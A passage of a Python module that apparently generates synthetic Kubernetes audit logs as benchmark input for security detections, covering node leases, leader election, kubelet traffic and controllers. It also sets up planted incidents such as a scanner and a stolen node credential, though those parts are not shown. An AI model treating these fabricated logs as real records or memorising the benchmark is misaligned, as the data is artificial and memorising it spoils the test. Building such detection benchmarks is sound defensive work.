"""Synthetic kube-apiserver audit logs for one ISO week: demo data and benchmark input.

Writes ``<out_dir>/<master>/kubernetes.audit`` plus lumberjack backups
``kubernetes-YYYY-MM-DDTHH-MM-SS.mmm.audit[.gz]`` for every master, as an ACK cluster running the
ACK audit policy (docs/audit-policy-semantics.md section 6) would leave them:

* only requests the ACK policy logs, at the level it gives them; ``RequestReceived`` is omitted,
  long-running requests (watch, exec, attach, log, portforward, proxy) have ``ResponseStarted`` +
  ``ResponseComplete``, a 401 has a single ``ResponseStarted`` with ``user: {}``;
* Go ``encoding/json`` output: compact, HTML-escaped, v1 key order, microsecond UTC timestamps;
* lumberjack rotation: rotate before a write that would push the file strictly above the limit,
  backups named after the UTC rotation time, optional gzip (no stored name, mtime 0).

The background traffic is the usual control-plane mix (node leases, leader election, watches,
controllers, CRDs, a few humans) and on purpose contains nothing that any detection in
docs/detections.md fires on, so that the incidents in :data:`PLANTED` are the only hits and their
counts are exact for every seed and size. Pure stdlib, streaming, deterministic.
"""

from __future__ import annotations

import datetime as dt
import gzip
import heapq
import json
import os
import random
import shutil
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO

__all__ = ["PLANTED", "planted_markdown", "synth_week"]

LOCAL_OFFSET_S = 8 * 3600  # Asia/Shanghai, no DST
LOCAL_TZ_NAME = "Asia/Shanghai"
WEEK_S = 7 * 86400
BUCKET_S = 60
ACTIVE_NAME = "kubernetes.audit"
MIB = 1048576
MIN_MAX_SIZE_BYTES = 64 * 1024  # every generated line is far below this
GZIP_LEVEL = 6  # Go compress/gzip DefaultCompression
SYSTEM_SHARE = 0.885
HUMAN_SHARE = 0.11  # the rest: failed authentications (user {})
K8S_VERSION = "v1.30.1-aliyun.1"
REGISTRY = "registry-vpc.cn-shanghai.aliyuncs.com/acme"
K8S_COMMIT = "4c1e8e9"
CLUSTER_AGE_DAYS = 213
DRIFT_MASTER_INDEX = 2  # master-3
WEEKDAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")

_US = 1_000_000
_ESC = {"&": "\\u0026", "<": "\\u003c", ">": "\\u003e", "\u2028": "\\u2028", "\u2029": "\\u2029"}
_HMS = [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]
_HEAD = '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"'
_ALLOW_EMPTY = '{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}'
_FORBID = '{"authorization.k8s.io/decision":"forbid","authorization.k8s.io/reason":""}'
_PSA_KEY = "pod-security.kubernetes.io/enforce-policy"


def _j(obj: Any) -> str:
    """Serialize like Go encoding/json: compact, UTF-8, HTML characters escaped."""
    s = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    for k, v in _ESC.items():
        if k in s:
            s = s.replace(k, v)
    return s


def _sorted(d: dict[str, Any]) -> dict[str, Any]:
    """Go marshals map keys sorted; struct fields keep declaration order."""
    return dict(sorted(d.items()))


def _st(
    code: int, reason: str = "", message: str = "", details: dict[str, str] | None = None
) -> str:
    """responseStatus JSON; success statuses carry the code only."""
    if not reason:
        return f'{{"metadata":{{}},"code":{code}}}'
    d: dict[str, Any] = {"metadata": {}, "status": "Failure", "message": message, "reason": reason}
    if details is not None:
        d["details"] = details
    d["code"] = code
    return _j(d)


def _status_obj(code: int, reason: str, message: str, details: dict[str, str]) -> str:
    return _j(
        {
            "kind": "Status",
            "apiVersion": "v1",
            "metadata": {},
            "status": "Failure",
            "message": message,
            "reason": reason,
            "details": details,
            "code": code,
        }
    )


def _qual(resource: str, group: str) -> str:
    return f"{resource}.{group}" if group else resource


def _details(name: str, resource: str, group: str) -> dict[str, str]:
    d = {"name": name} if name else {}
    if group:
        d["group"] = group
    d["kind"] = resource
    return d


def _not_found(resource: str, group: str, name: str) -> str:
    return _st(
        404,
        "NotFound",
        f'{_qual(resource, group)} "{name}" not found',
        _details(name, resource, group),
    )


def _conflict(resource: str, group: str, name: str) -> tuple[str, str]:
    msg = (
        f'Operation cannot be fulfilled on {_qual(resource, group)} "{name}": the object has '
        "been modified; please apply your changes to the latest version and try again"
    )
    det = _details(name, resource, group)
    return _st(409, "Conflict", msg, det), _status_obj(409, "Conflict", msg, det)


def _forbidden(user: str, verb: str, resource: str, group: str, ns: str, name: str = "") -> str:
    subject = f'{_qual(resource, group)} "{name}"' if name else _qual(resource, group)
    scope = f'in the namespace "{ns}"' if ns else "at the cluster scope"
    msg = (
        f'{subject} is forbidden: User "{user}" cannot {verb} resource "{resource}" '
        f'in API group "{group}" {scope}'
    )
    return _st(403, "Forbidden", msg, _details(name, resource, group))


def _forbidden_path(user: str, path: str) -> str:
    return _st(403, "Forbidden", f'forbidden: User "{user}" cannot get path "{path}"', {})


_UNAUTHORIZED = _st(401, "Unauthorized", "Unauthorized")


def _uri(path: str, query: str = "") -> str:
    """requestURI JSON string (the query joined with & and HTML-escaped like Go)."""
    return _j(f"{path}?{query}" if query else path)


def _oref(
    resource: str,
    ns: str = "",
    name: str = "",
    group: str = "",
    version: str = "v1",
    sub: str = "",
    uid: str = "",
    rv: str = "",
) -> str:
    d: dict[str, str] = {"resource": resource}
    if ns:
        d["namespace"] = ns
    if name:
        d["name"] = name
    if uid:
        d["uid"] = uid
    if group:
        d["apiGroup"] = group
    d["apiVersion"] = version
    if rv:
        d["resourceVersion"] = rv
    if sub:
        d["subresource"] = sub
    return _j(d)


def _tpl(obj: Any) -> str:
    """Pre-serialize an object whose string values may hold @@name@@ holes, for ``%`` formatting."""
    s = _j(obj).replace("%", "%%")
    out, i = [], 0
    while True:
        a = s.find("@@", i)
        if a < 0:
            out.append(s[i:])
            return "".join(out)
        b = s.index("@@", a + 2)
        out.append(s[i:a])
        out.append("%(" + s[a + 2 : b] + ")s")
        i = b + 2


def _line(
    level: str,
    aid: str,
    stage: str,
    uri_j: str,
    verb: str,
    user_j: str,
    imp_j: str,
    ips_j: str,
    ua_j: str,
    oref_j: str,
    rs_j: str,
    reqo: str,
    respo: str,
    rrt: str,
    st: str,
    ann_j: str,
) -> str:
    s = (
        f'{_HEAD}{level}","auditID":"{aid}","stage":"{stage}","requestURI":{uri_j},'
        f'"verb":"{verb}","user":{user_j}'
    )
    if imp_j:
        s += f',"impersonatedUser":{imp_j}'
    s += f',"sourceIPs":{ips_j},"userAgent":{ua_j}'
    if oref_j:
        s += f',"objectRef":{oref_j}'
    s += f',"responseStatus":{rs_j}'
    if reqo:
        s += f',"requestObject":{reqo}'
    if respo:
        s += f',"responseObject":{respo}'
    s += f',"requestReceivedTimestamp":"{rrt}","stageTimestamp":"{st}"'
    if ann_j:
        s += f',"annotations":{ann_j}'
    return s + "}\n"


def _week_start_utc(week: str) -> dt.datetime:
    """Monday 00:00 local (UTC+8) of an ISO week like ``2026-W47``, as a UTC datetime."""
    try:
        year_s, wk_s = week.upper().split("-W")
        monday = dt.date.fromisocalendar(int(year_s), int(wk_s), 1)
    except ValueError as exc:
        raise ValueError(f"week must look like 2026-W47, got {week!r}") from exc
    local = dt.datetime(monday.year, monday.month, monday.day, tzinfo=dt.UTC)
    return local - dt.timedelta(seconds=LOCAL_OFFSET_S)


# --------------------------------------------------------------------------------------------
# identities
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Actor:
    name: str
    user_j: str
    ua_j: str
    ips: tuple[str, ...]  # pre-serialized sourceIPs alternatives
    allow_j: str
    system: bool = True

    def ips_j(self, rng: random.Random) -> str:
        return self.ips[0] if len(self.ips) == 1 else self.ips[int(rng.random() * len(self.ips))]


def _allow(reason: str, extra: dict[str, str] | None = None) -> str:
    d = {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": reason}
    if extra:
        d.update(extra)
    return _j(_sorted(d))


def _rbac(kind: str, binding: str, role: str, subject_kind: str, subject: str) -> str:
    return (
        f'RBAC: allowed by {kind} "{binding}" of ClusterRole "{role}" to {subject_kind} "{subject}"'
    )


def _ua(component: str, suffix: str = "") -> str:
    return _j(f"{component}/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}{suffix}")


def _ips(*alternatives: list[str]) -> tuple[str, ...]:
    return tuple(_j(a) for a in alternatives)


def _uuid_from(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) & 3]}{h[17:20]}-{h[20:]}"


NODES = tuple(f"cn-shanghai.10.0.1.{i}" for i in range(21, 27))
NODE_IPS = tuple(f"10.0.1.{i}" for i in range(21, 27))
NODE_GROUPS = ["system:nodes", "system:authenticated"]
ADMIN_GROUPS = ["system:masters", "system:authenticated"]

# Human identities: ACK RAM sub-account ids, plus the shared kubernetes-admin kubeconfig whose
# real user only appears in the RBAC reason (the binding ACK creates per sub-account).
DEV_ID = "271847309265518842"
OPS_ID = "273905581672440195"
INTERN_ID = "275518203947716630"
LEAD_ID = "276290117458803326"
CONTRACTOR_ID = "278064412395570218"
ADMIN = "kubernetes-admin"

OFFICE_IP = "116.228.88.17"  # China Telecom Shanghai, office NAT
DEV_HOME_V6 = "2408:8207:2c5b:7e10:5d1c:9a2f:3e41:17b6"  # China Unicom broadband
BASTION = ["192.168.31.25", "10.0.2.5"]  # laptop behind the VPC bastion proxy
INTERN_IPS = ["192.168.31.77", "10.0.2.5"]
CLOUDSHELL_IP = "47.100.75.203"  # Alibaba Cloud (Shanghai)
CONTRACTOR_IPS = ["110.242.68.66", "47.101.22.13"]  # X-Forwarded-For, then a public proxy
SCANNER_IP = "45.135.232.19"
ANON_READER_IP = "8.218.91.44"
STOLEN_NODE = NODES[2]
STOLEN_NODE_IP = "47.243.117.52"
CI_RUNNER_IP = "10.0.3.15"

KUBECTL_DARWIN = "kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350"
KUBECTL_LINUX = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
KUBECTL_WINDOWS = "kubectl/v1.28.9 (windows/amd64) kubernetes/587f5fe"
K9S = "k9s/v0.32.4 (darwin/arm64) kubernetes/$Format"
SCANNER_UA = "kube-hunter/0.6.8 python-requests/2.31.0"


def _human(
    key: str,
    username: str,
    groups: list[str],
    person: str,
    role: str,
    ips: tuple[str, ...],
    uas: list[str],
) -> list[_Actor]:
    reason = _rbac("ClusterRoleBinding", f"{person}-clusterrolebinding", role, "User", person)
    user_j = _j({"username": username, "groups": groups})
    return [_Actor(key, user_j, _j(ua), ips, _allow(reason), system=False) for ua in uas]


def _sa(ns: str, name: str, uid: str, pod: str = "", node: str = "") -> str:
    user: dict[str, Any] = {
        "username": f"system:serviceaccount:{ns}:{name}",
        "uid": uid,
        "groups": [
            "system:serviceaccounts",
            f"system:serviceaccounts:{ns}",
            "system:authenticated",
        ],
    }
    if pod:
        seed = random.Random(f"{ns}/{pod}")  # noqa: S311 - fixed ids, not security
        user["extra"] = {
            "authentication.kubernetes.io/credential-id": [f"JTI={_uuid_from(seed)}"],
            "authentication.kubernetes.io/node-name": [node],
            "authentication.kubernetes.io/node-uid": [_uuid_from(seed)],
            "authentication.kubernetes.io/pod-name": [pod],
            "authentication.kubernetes.io/pod-uid": [_uuid_from(seed)],
        }
    return _j(user)


def _sa_reason(binding: str, ns: str, name: str) -> str:
    return _rbac("ClusterRoleBinding", binding, binding, "ServiceAccount", f"{name}/{ns}")


# --------------------------------------------------------------------------------------------
# generator state and emission
# --------------------------------------------------------------------------------------------


class _Gen:
    """Holds the RNG, clock helpers and the per-master line queues of one run."""

    def __init__(self, start_us: int, masters: int, seed: int) -> None:
        self.rng = random.Random(seed)  # noqa: S311 - reproducible synthetic data
        self.start_us = start_us
        self.end_us = start_us + WEEK_S * _US
        self.masters = masters
        self.rv = 48_000_000 + seed % 1000 * 1000
        self.lines = 0
        self.requests = 0
        self.bucket_end = start_us
        self.cur: list[list[tuple[int, str, int]]] = [[] for _ in range(masters)]
        self.heap: list[list[tuple[int, int, str, int]]] = [[] for _ in range(masters)]
        self.seq = 0
        first_day = start_us // _US // 86400 - 1
        self.days = {
            d: (dt.date(1970, 1, 1) + dt.timedelta(days=d)).isoformat()
            for d in range(first_day, first_day + 10)
        }
        self.created = self.sec(start_us - (CLUSTER_AGE_DAYS * 86400 - 37_813) * _US)

    def fmt(self, us: int) -> str:
        sec, frac = divmod(us, _US)
        day, sod = divmod(sec, 86400)
        return f"{self.days[day]}T{_HMS[sod]}.{frac:06d}Z"

    def sec(self, us: int) -> str:
        day, sod = divmod(us // _US, 86400)
        d = self.days.get(day) or (dt.date(1970, 1, 1) + dt.timedelta(days=day)).isoformat()
        return f"{d}T{_HMS[sod]}Z"

    def aid(self) -> str:
        return _uuid_from(self.rng)

    def next_rv(self) -> str:
        self.rv += 1 + int(self.rng.random() * 9)
        return str(self.rv)

    def pick_master(self) -> int:
        return int(self.rng.random() * self.masters)

    def emit(self, m: int, stage_us: int, line: str) -> None:
        key = stage_us + int(self.rng.random() * 2500)  # writes are only roughly ordered
        self.lines += 1
        if key < self.bucket_end:
            self.cur[m].append((key, line, stage_us))
        else:
            self.seq += 1
            heapq.heappush(self.heap[m], (key, self.seq, line, stage_us))

    def req(
        self,
        m: int,
        t: int,
        actor: _Actor,
        level: str,
        verb: str,
        uri_j: str,
        oref_j: str,
        rs_j: str = '{"metadata":{},"code":200}',
        ann_j: str | None = None,
        reqo: str = "",
        respo: str = "",
        dur: int = 0,
        started: str = "",
        imp_j: str = "",
        ips_j: str = "",
    ) -> None:
        """Emit one request: ResponseComplete, preceded by ResponseStarted if ``started``."""
        rng = self.rng
        if not dur:
            dur = 600 + int(rng.random() * rng.random() * 40_000)
        limit = self.end_us - 1 - t
        if dur > limit:
            dur = limit
        rrt = self.fmt(t)
        aid = self.aid()
        ips_j = ips_j or actor.ips_j(rng)
        if ann_j is None:
            ann_j = actor.allow_j
        self.requests += 1
        if started:
            t1 = t + min(200 + int(rng.random() * 1800), dur // 2)
            self.emit(
                m,
                t1,
                _line(
                    level,
                    aid,
                    "ResponseStarted",
                    uri_j,
                    verb,
                    actor.user_j,
                    imp_j,
                    ips_j,
                    actor.ua_j,
                    oref_j,
                    started,
                    "",
                    "",
                    rrt,
                    self.fmt(t1),
                    ann_j,
                ),
            )
        self.emit(
            m,
            t + dur,
            _line(
                level,
                aid,
                "ResponseComplete",
                uri_j,
                verb,
                actor.user_j,
                imp_j,
                ips_j,
                actor.ua_j,
                oref_j,
                rs_j,
                reqo,
                respo,
                rrt,
                self.fmt(t + dur),
                ann_j,
            ),
        )

    def unauthorized(
        self, m: int, t: int, level: str, verb: str, uri_j: str, oref_j: str, ips_j: str, ua_j: str
    ) -> None:
        """A failed authentication: one ResponseStarted event, ``user: {}``, no annotations."""
        self.requests += 1
        t1 = t + 150 + int(self.rng.random() * 900)
        self.emit(
            m,
            t1,
            _line(
                level,
                self.aid(),
                "ResponseStarted",
                uri_j,
                verb,
                "{}",
                "",
                ips_j,
                ua_j,
                oref_j,
                _UNAUTHORIZED,
                "",
                "",
                self.fmt(t),
                self.fmt(t1),
                "",
            ),
        )

    def drain(self, m: int, upto: int) -> list[tuple[int, str, int]]:
        items = self.cur[m]
        self.cur[m] = []
        h = self.heap[m]
        while h and h[0][0] < upto:
            key, _, line, stage = heapq.heappop(h)
            items.append((key, line, stage))
        items.sort()
        return items


def _watch_query(g: _Gen, selector: str = "") -> tuple[str, int]:
    """client-go reflector watch query (timeout 5-10 min), with its timeoutSeconds in seconds."""
    secs = 300 + int(g.rng.random() * 300)
    sel = f"&fieldSelector={selector}" if selector else ""
    return (
        f"allowWatchBookmarks=true{sel}&resourceVersion={g.next_rv()}"
        f"&timeout={secs // 60}m{secs % 60}s&timeoutSeconds={secs}&watch=true"
    ), secs


# --------------------------------------------------------------------------------------------
# background traffic
# --------------------------------------------------------------------------------------------

Op = Callable[[int, int], None]
HumanOp = Callable[[int, int, _Actor], None]


def _node_objects(g: _Gen) -> tuple[str, str]:
    cond_types = ["MemoryPressure", "DiskPressure", "PIDPressure", "Ready"]
    patch = {
        "status": {
            "$setElementOrder/conditions": [{"type": c} for c in cond_types],
            "conditions": [{"lastHeartbeatTime": "@@hb@@", "type": c} for c in cond_types],
        }
    }
    conds = []
    for c in cond_types:
        ok = c == "Ready"
        conds.append(
            {
                "type": c,
                "status": "True" if ok else "False",
                "lastHeartbeatTime": "@@hb@@",
                "lastTransitionTime": g.created,
                "reason": "KubeletReady" if ok else f"KubeletHasNo{c}",
                "message": "kubelet is posting ready status"
                if ok
                else f"kubelet has no {c.lower()}",
            }
        )
    node = {
        "kind": "Node",
        "apiVersion": "v1",
        "metadata": {
            "name": "@@node@@",
            "uid": "@@uid@@",
            "resourceVersion": "@@rv@@",
            "creationTimestamp": g.created,
            "labels": _sorted(
                {
                    "beta.kubernetes.io/arch": "amd64",
                    "beta.kubernetes.io/os": "linux",
                    "kubernetes.io/hostname": "@@node@@",
                    "kubernetes.io/os": "linux",
                    "node.kubernetes.io/instance-type": "ecs.g7.2xlarge",
                    "topology.kubernetes.io/region": "cn-shanghai",
                    "topology.kubernetes.io/zone": "cn-shanghai-l",
                }
            ),
        },
        "spec": {
            "podCIDR": "@@cidr@@",
            "podCIDRs": ["@@cidr@@"],
            "providerID": "cn-shanghai.@@ecs@@",
        },
        "status": {
            "capacity": {
                "cpu": "8",
                "ephemeral-storage": "123329088Ki",
                "memory": "32386144Ki",
                "pods": "64",
            },
            "allocatable": {
                "cpu": "7800m",
                "ephemeral-storage": "113658176026",
                "memory": "28783200Ki",
                "pods": "64",
            },
            "conditions": conds,
            "addresses": [
                {"type": "InternalIP", "address": "@@ip@@"},
                {"type": "Hostname", "address": "@@node@@"},
            ],
            "daemonEndpoints": {"kubeletEndpoint": {"Port": 10250}},
            "nodeInfo": {
                "machineID": "@@mid@@",
                "systemUUID": "@@uid@@",
                "bootID": "@@boot@@",
                "kernelVersion": "5.10.134-16.3.al8.x86_64",
                "osImage": "Alibaba Cloud Linux 3.2104 U10 (OpenAnolis Edition)",
                "containerRuntimeVersion": "containerd://1.6.28",
                "kubeletVersion": K8S_VERSION,
                "kubeProxyVersion": K8S_VERSION,
                "operatingSystem": "linux",
                "architecture": "amd64",
            },
        },
    }
    return _tpl(patch), _tpl(node)


def _pod_template(g: _Gen) -> tuple[str, str]:
    labels = {"app": "@@app@@", "pod-template-hash": "@@hash@@"}
    container = {
        "name": "@@app@@",
        "image": f"{REGISTRY}/@@app@@:2.14.3",
        "ports": [{"name": "http", "containerPort": 8080, "protocol": "TCP"}],
        "resources": {
            "limits": {"cpu": "1", "memory": "1Gi"},
            "requests": {"cpu": "250m", "memory": "512Mi"},
        },
        "readinessProbe": {
            "httpGet": {"path": "/readyz", "port": 8080, "scheme": "HTTP"},
            "periodSeconds": 10,
        },
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
        "securityContext": {"runAsNonRoot": True, "allowPrivilegeEscalation": False},
    }
    owner = [
        {
            "apiVersion": "apps/v1",
            "kind": "ReplicaSet",
            "name": "@@app@@-@@hash@@",
            "uid": "@@rsuid@@",
            "controller": True,
            "blockOwnerDeletion": True,
        }
    ]
    spec = {
        "containers": [container],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "serviceAccountName": "default",
        "securityContext": {},
        "schedulerName": "default-scheduler",
    }
    req = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "generateName": "@@app@@-@@hash@@-",
            "namespace": "@@ns@@",
            "creationTimestamp": None,
            "labels": labels,
            "ownerReferences": owner,
        },
        "spec": spec,
    }
    resp = {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {
            "name": "@@name@@",
            "generateName": "@@app@@-@@hash@@-",
            "namespace": "@@ns@@",
            "uid": "@@uid@@",
            "resourceVersion": "@@rv@@",
            "creationTimestamp": "@@ct@@",
            "labels": labels,
            "ownerReferences": owner,
        },
        "spec": spec,
        "status": {"phase": "Pending", "qosClass": "Burstable"},
    }
    return _tpl(req), _tpl(resp)


_APPS = (
    ("prod", "web", "7d9f8c6b5"),
    ("prod", "api", "5c8b7d9f4"),
    ("prod", "worker", "6f5d8b7c9"),
    ("staging", "web", "84c6d5b7f"),
    ("staging", "api", "7b9c4d6e8"),
    ("monitoring", "grafana", "58d9c7b6f"),
)
_SUFFIX_CHARS = "bcdfghjklmnpqrstvwxz2456789"


def _pod_name(g: _Gen, app: str, hash_: str) -> str:
    r = g.rng.random
    return f"{app}-{hash_}-" + "".join(_SUFFIX_CHARS[int(r() * 27)] for _ in range(5))


def _system_ops(g: _Gen) -> list[tuple[float, Op]]:
    rng = g.rng
    ops: list[tuple[float, Op]] = []
    mk_uid = g.aid

    kubelets = [
        _Actor(
            f"node{i}",
            _j({"username": f"system:node:{n}", "groups": NODE_GROUPS}),
            _ua("kubelet"),
            _ips([NODE_IPS[i]]),
            _ALLOW_EMPTY,
        )
        for i, n in enumerate(NODES)
    ]
    lease_uid = [mk_uid() for _ in NODES]
    node_uid = [mk_uid() for _ in NODES]
    boot_id = [mk_uid() for _ in NODES]
    n_nodes = len(NODES)

    def node_lease(t: int, m: int) -> None:
        i = int(rng.random() * n_nodes)
        n = NODES[i]
        g.req(
            m,
            t,
            kubelets[i],
            "Metadata",
            "update",
            _uri(
                f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n}", "timeout=10s"
            ),
            _oref(
                "leases",
                "kube-node-lease",
                n,
                "coordination.k8s.io",
                uid=lease_uid[i],
                rv=g.next_rv(),
            ),
        )

    patch_t, node_t = _node_objects(g)

    def node_status(t: int, m: int) -> None:
        i = int(rng.random() * n_nodes)
        n = NODES[i]
        hb = g.sec(t)
        p = {
            "hb": hb,
            "node": n,
            "uid": node_uid[i],
            "rv": g.next_rv(),
            "ip": NODE_IPS[i],
            "cidr": f"172.20.{i * 2}.0/25",
            "ecs": f"i-uf6{node_uid[i][:17].replace('-', '')}",
            "mid": node_uid[i].replace("-", ""),
            "boot": boot_id[i],
        }
        g.req(
            m,
            t,
            kubelets[i],
            "RequestResponse",
            "patch",
            _uri(f"/api/v1/nodes/{n}/status", "timeout=10s"),
            _oref("nodes", "", n, sub="status"),
            reqo=patch_t % p,
            respo=node_t % p,
        )

    def kubelet_watch(t: int, m: int) -> None:
        i = int(rng.random() * n_nodes)
        n = NODES[i]
        kind = int(rng.random() * 5)
        if kind == 0:
            q, secs = _watch_query(g, f"spec.nodeName%3D{n}")
            uri, oref, lvl = "/api/v1/pods", _oref("pods"), "Request"
        elif kind == 1:
            q, secs = _watch_query(g, f"metadata.name%3D{n}")
            uri, oref, lvl = "/api/v1/nodes", _oref("nodes", "", n), "Request"
        elif kind == 2:
            q, secs = _watch_query(g)
            uri, oref, lvl = "/api/v1/services", _oref("services"), "Request"
        elif kind == 3:
            ns = ("prod", "staging", "monitoring", "kube-system")[int(rng.random() * 4)]
            q, secs = _watch_query(g, "metadata.name%3Dkube-root-ca.crt")
            uri = f"/api/v1/namespaces/{ns}/configmaps"
            oref, lvl = _oref("configmaps", ns, "kube-root-ca.crt"), "Metadata"
        else:
            q, secs = _watch_query(g)
            uri = "/apis/storage.k8s.io/v1/csidrivers"
            oref, lvl = _oref("csidrivers", group="storage.k8s.io"), "Request"
        g.req(
            m,
            t,
            kubelets[i],
            lvl,
            "watch",
            _uri(uri, q),
            oref,
            dur=secs * _US + int(rng.random() * 3000),
            started='{"metadata":{},"code":200}',
        )

    def kubelet_get_pod(t: int, m: int) -> None:
        i = int(rng.random() * n_nodes)
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = _pod_name(g, app, h)
        g.req(
            m,
            t,
            kubelets[i],
            "Request",
            "get",
            _uri(f"/api/v1/namespaces/{ns}/pods/{name}"),
            _oref("pods", ns, name),
        )

    pod_req_t, pod_resp_t = _pod_template(g)
    pstatus_t = _tpl(
        {
            "metadata": {"uid": "@@uid@@"},
            "status": {
                "$setElementOrder/conditions": [
                    {"type": "PodReadyToStartContainers"},
                    {"type": "Initialized"},
                    {"type": "Ready"},
                    {"type": "ContainersReady"},
                    {"type": "PodScheduled"},
                ],
                "conditions": [
                    {"lastTransitionTime": "@@ts@@", "status": "True", "type": "Ready"},
                    {"lastTransitionTime": "@@ts@@", "status": "True", "type": "ContainersReady"},
                ],
                "containerStatuses": [
                    {
                        "containerID": "containerd://@@cid@@",
                        "image": f"{REGISTRY}/@@app@@:2.14.3",
                        "lastState": {},
                        "name": "@@app@@",
                        "ready": True,
                        "restartCount": 0,
                        "started": True,
                        "state": {"running": {"startedAt": "@@ts@@"}},
                    }
                ],
                "podIP": "@@podip@@",
            },
        }
    )

    def kubelet_pod_status(t: int, m: int) -> None:
        i = int(rng.random() * n_nodes)
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = _pod_name(g, app, h)
        uid = mk_uid()
        p = {
            "uid": uid,
            "ts": g.sec(t),
            "cid": f"{rng.getrandbits(256):064x}",
            "app": app,
            "hash": h,
            "name": name,
            "ns": ns,
            "rv": g.next_rv(),
            "ct": g.sec(t - 9 * _US),
            "rsuid": node_uid[0],
            "podip": f"172.20.{i * 2}.{10 + int(rng.random() * 100)}",
        }
        resp = pod_resp_t % p
        g.req(
            m,
            t,
            kubelets[i],
            "RequestResponse",
            "patch",
            _uri(f"/api/v1/namespaces/{ns}/pods/{name}/status"),
            _oref("pods", ns, name, sub="status"),
            reqo=pstatus_t % p,
            respo=resp,
        )

    ops += [
        (32.0, node_lease),
        (1.2, node_status),
        (5.0, kubelet_watch),
        (2.0, kubelet_get_pod),
        (0.6, kubelet_pod_status),
    ]

    # leader election (leases, every 2 s) by the control-plane components on the masters
    master_ips = [f"10.0.0.{11 + i}" for i in range(max(g.masters, 3))]
    for comp, lease, weight in (
        ("kube-controller-manager", "kube-controller-manager", 10.0),
        ("kube-scheduler", "kube-scheduler", 10.0),
    ):
        user_j = _j({"username": f"system:{comp}", "groups": ["system:authenticated"]})
        reason = _rbac(
            "ClusterRoleBinding", f"system:{comp}", f"system:{comp}", "User", f"system:{comp}"
        )
        instances = [
            _Actor(comp, user_j, _ua(comp, "/leader-election"), _ips([ip]), _allow(reason))
            for ip in master_ips[:3]
        ]
        uid = mk_uid()

        def elect(
            t: int, m: int, instances: list[_Actor] = instances, lease: str = lease, uid: str = uid
        ) -> None:
            who = int(rng.random() * 3)
            path = f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{lease}"
            if who == 0:  # the leader renews
                g.req(
                    m,
                    t,
                    instances[0],
                    "Metadata",
                    "update",
                    _uri(path, "timeout=5s"),
                    _oref(
                        "leases",
                        "kube-system",
                        lease,
                        "coordination.k8s.io",
                        uid=uid,
                        rv=g.next_rv(),
                    ),
                )
            else:  # standbys poll
                g.req(
                    m,
                    t,
                    instances[who],
                    "Metadata",
                    "get",
                    _uri(path, "timeout=5s"),
                    _oref("leases", "kube-system", lease, "coordination.k8s.io"),
                )

        ops.append((weight, elect))

    # each apiserver renews its own identity lease through loopback, so it lands in its own log
    apiservers = [
        _Actor(
            "apiserver",
            _j({"username": "system:apiserver", "uid": mk_uid(), "groups": ["system:masters"]}),
            _ua("kube-apiserver"),
            _ips(["::1"]),
            _ALLOW_EMPTY,
        )
        for _ in range(g.masters)
    ]
    apiserver_ids = [f"apiserver-{rng.getrandbits(104):026x}" for _ in range(g.masters)]

    def apiserver_lease(t: int, m: int) -> None:
        lid = apiserver_ids[m]
        g.req(
            m,
            t,
            apiservers[m],
            "Metadata",
            "update",
            _uri(f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{lid}"),
            _oref(
                "leases", "kube-system", lid, "coordination.k8s.io", uid=mk_uid(), rv=g.next_rv()
            ),
        )

    def apiserver_epslice(t: int, m: int) -> None:
        g.req(
            m,
            t,
            apiservers[m],
            "Metadata",
            "get",
            _uri("/apis/discovery.k8s.io/v1/namespaces/default/endpointslices/kubernetes"),
            _oref("endpointslices", "default", "kubernetes", "discovery.k8s.io"),
        )

    ops += [(5.0, apiserver_lease), (0.8, apiserver_epslice)]

    # controllers running with their own service-account credentials
    def controller(name: str) -> _Actor:
        return _Actor(
            name,
            _sa("kube-system", name, mk_uid()),
            _ua("kube-controller-manager", f"/system:serviceaccount:kube-system:{name}"),
            _ips([master_ips[0]]),
            _allow(_sa_reason(f"system:controller:{name}", "kube-system", name)),
        )

    rs_ctl, dep_ctl = controller("replicaset-controller"), controller("deployment-controller")
    eps_ctl, ep_ctl = controller("endpointslice-controller"), controller("endpoint-controller")
    hpa_ctl, gc_ctl = (
        controller("horizontal-pod-autoscaler"),
        controller("generic-garbage-collector"),
    )
    job_ctl = controller("job-controller")
    psa = _allow(
        _sa_reason(
            "system:controller:replicaset-controller", "kube-system", "replicaset-controller"
        ),
        {_PSA_KEY: "privileged:latest"},
    )

    def rs_create_pod(t: int, m: int) -> None:
        ns, app, h = _APPS[int(rng.random() * len(_APPS))]
        name = _pod_name(g, app, h)
        p = {
            "app": app,
            "hash": h,
            "ns": ns,
            "name": name,
            "uid": mk_uid(),
            "rv": g.next_rv(),
            "ct": g.sec(t),
            "rsuid": node_uid[1],
        }
        g.req(
            m,
            t,
            rs_ctl,
            "RequestResponse",
            "create",
            _uri(f"/api/v1/namespaces/{ns}/pods"),
            _oref("pods", ns),
            _st(201),
            psa,
            reqo=pod_req_t % p,
            respo=pod_resp_t % p,
        )

    sched = _Actor(
        "kube-scheduler",
        _j({"username": "system:kube-scheduler", "groups": ["system:authenticated"]}),
        _ua("kube-scheduler", "/scheduler"),
        _ips([master_ips[1]]),
        _allow(
            _rbac(
                "ClusterRoleBinding",
                "system:kube-scheduler",
